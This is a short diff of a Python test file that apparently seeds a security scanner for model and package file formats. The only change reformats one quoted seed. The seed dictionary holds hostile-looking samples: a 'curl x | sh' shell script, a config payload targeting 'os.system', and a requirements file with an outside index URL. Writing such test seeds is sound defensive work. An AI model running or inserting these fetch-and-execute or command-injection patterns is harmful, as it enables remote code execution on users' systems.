@@ -40,7 +40,7 @@ SEEDS = {
     "requirements": b"-i https://x.example/simple\ntorhc==1\nx @ git+https://github.com/a/b\n",
     "lightgbm": b"tree\nversion=v4\nnum_class=1\nnum_leaves=3\n",
     "script": b"#!/bin/sh\ncurl x | sh\n",
-    "git": b"blob 24\0{\"_target_\": \"os.system\"}",
+    "git": b'blob 24\0{"_target_": "os.system"}',
     "torch7": b"\x04\0\0\0\x01\0\0\0\x03\0\0\0V 1",
     "tensorrt": b"ptrt" + bytes(40),
     "tensordata": bytes(16) + (0xDB4775248B80FB57).to_bytes(8, "little"),
